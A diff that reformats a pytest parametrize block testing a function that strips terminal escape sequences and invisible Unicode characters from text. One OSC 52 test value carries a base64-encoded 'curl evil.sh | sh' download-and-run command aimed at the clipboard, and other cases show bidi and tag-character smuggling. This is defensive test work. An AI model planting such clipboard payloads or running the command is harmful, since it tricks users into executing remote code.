@@ -20,25 +20,28 @@ OSC52 = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"
 """OSC 52: asks the terminal to put text on the clipboard (issue #13, case 4)."""
 
 
-@pytest.mark.parametrize(("raw", "shown"), [
-    (f"nuts{OSC52}", "nuts"),
-    ("nuts\x1b]52;c;Y3Vy\x1b\\ and more", "nuts and more"),  # OSC ended by ST
-    ("\x1b[31mred\x1b[0m", "red"),  # CSI colours
-    ("\x9b2J cleared", " cleared"),  # C1 CSI
-    ("\x9d0;title\x9c after", " after"),  # C1 OSC ... ST
-    ("bell\x07", "bell"),
-    ("over\rwritten", "over\nwritten"),  # a carriage return would overwrite the line
-    ("a\r\nb", "a\nb"),
-    ("line\u2028sep", "line\nsep"),
-    ("Mum\u202e dlrow", "Mum dlrow"),  # right-to-left override
-    ("\u2066isolated\u2069", "isolated"),
-    ("zero\u200bwidth\ufeff", "zerowidth"),
-    ("hidden\U000e0041\U000e0042tag", "hiddentag"),  # tag characters smuggle text
-    ("lone\ud800surrogate", "lonesurrogate"),
-    ("tab\tand\nline", "tab\tand\nline"),
-    ("👩\u200d⚕️ and می\u200cخواهم", "👩\u200d⚕️ and می\u200cخواهم"),  # joiners stay
-    ("\x1b]52;c;never ends", ""),  # an unterminated OSC swallows the rest, as a terminal would
-])
+@pytest.mark.parametrize(
+    ("raw", "shown"),
+    [
+        (f"nuts{OSC52}", "nuts"),
+        ("nuts\x1b]52;c;Y3Vy\x1b\\ and more", "nuts and more"),  # OSC ended by ST
+        ("\x1b[31mred\x1b[0m", "red"),  # CSI colours
+        ("\x9b2J cleared", " cleared"),  # C1 CSI
+        ("\x9d0;title\x9c after", " after"),  # C1 OSC ... ST
+        ("bell\x07", "bell"),
+        ("over\rwritten", "over\nwritten"),  # a carriage return would overwrite the line
+        ("a\r\nb", "a\nb"),
+        ("line\u2028sep", "line\nsep"),
+        ("Mum\u202e dlrow", "Mum dlrow"),  # right-to-left override
+        ("\u2066isolated\u2069", "isolated"),
+        ("zero\u200bwidth\ufeff", "zerowidth"),
+        ("hidden\U000e0041\U000e0042tag", "hiddentag"),  # tag characters smuggle text
+        ("lone\ud800surrogate", "lonesurrogate"),
+        ("tab\tand\nline", "tab\tand\nline"),
+        ("👩\u200d⚕️ and می\u200cخواهم", "👩\u200d⚕️ and می\u200cخواهم"),  # joiners stay
+        ("\x1b]52;c;never ends", ""),  # an unterminated OSC swallows the rest, as a terminal would
+    ],
+)
 def test_escapes_controls_and_invisible_characters_are_removed(raw: str, shown: str) -> None:
     assert plain(raw) == shown
 
